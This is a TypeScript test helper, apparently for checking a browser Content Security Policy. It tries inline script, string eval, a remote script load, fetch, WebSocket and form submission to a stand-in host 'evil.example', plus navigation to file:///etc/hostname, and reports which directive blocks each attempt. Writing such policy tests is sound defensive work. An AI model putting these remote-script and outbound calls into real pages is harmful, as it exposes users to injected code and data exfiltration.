/** What a page under an attacker's hand would try. Each function runs in the page, so it stands on its own. */

export type PolicyAttack =
  | "inline"
  | "eval"
  | "remoteScript"
  | "inlineStyle"
  | "handler"
  | "frame"
  | "connect"
  | "socket"
  | "form"
  | "base"
  | "plugin";

/**
 * Outside the turn of `evaluate`, which the policy does not bind.
 * @returns the directive that stopped it, or `none`
 */
export function breakPolicy(attack: PolicyAttack): Promise<string> {
  const EVIL = "https://evil.example/";
  const add = (name: string, members: Record<string, string>): HTMLElement => {
    const element = Object.assign(document.createElement(name), members);
    document.body.append(element);
    return element;
  };
  const attacks: Record<PolicyAttack, () => unknown> = {
    inline: () => add("script", { textContent: "window.isBroken = true" }),
    eval: () => {
      const untyped = window as unknown as { setTimeout: (code: string) => void };
      untyped.setTimeout("window.isBroken = true");
    },
    remoteScript: () => add("script", { src: `${EVIL}x.js` }),
    inlineStyle: () => add("style", { textContent: "body { color: red }" }),
    handler: () => {
      const image = document.createElement("img");
      image.setAttribute("onerror", "window.isBroken = true");
      image.src = "./nothing";
      document.body.append(image);
    },
    frame: () => add("iframe", { src: EVIL }),
    connect: () => fetch(EVIL).catch(() => undefined),
    socket: () => new WebSocket("wss://evil.example/"),
    form: () => {
      const form = document.createElement("form");
      form.action = EVIL;
      document.body.append(form);
      form.submit();
    },
    base: () => add("base", { href: EVIL }),
    plugin: () => add("object", { data: `${EVIL}x.pdf` }),
  };
  return new Promise((resolve) => {
    const end = (directive: string): void => {
      document.removeEventListener("securitypolicyviolation", heard);
      resolve(directive);
    };
    const heard = (event: SecurityPolicyViolationEvent): void => {
      end(event.effectiveDirective);
    };
    document.addEventListener("securitypolicyviolation", heard);
    setTimeout(() => {
      end("none");
    }, 2_000);
    setTimeout(() => {
      try {
        attacks[attack]();
      } catch {
        // Refused by throwing: the violation is told by its event all the same.
      }
    });
  });
}

export type Navigation = "location" | "replace" | "link" | "file" | "otherPath";
export const NAVIGATIONS: readonly Navigation[] = [
  ...(["location", "replace", "link", "file", "otherPath"] as const),
];

export function navigateAway(how: Navigation): void {
  const EVIL = "https://evil.example/";
  const ways: Record<Navigation, () => void> = {
    location: () => {
      window.location.href = EVIL;
    },
    replace: () => {
      window.location.replace(EVIL);
    },
    link: () => {
      const link = Object.assign(document.createElement("a"), { href: EVIL });
      document.body.append(link);
      link.click();
      link.remove();
    },
    file: () => {
      window.location.href = "file:///etc/hostname";
    },
    otherPath: () => {
      window.location.href = "./assets/other.html";
    },
  };
  ways[how]();
}
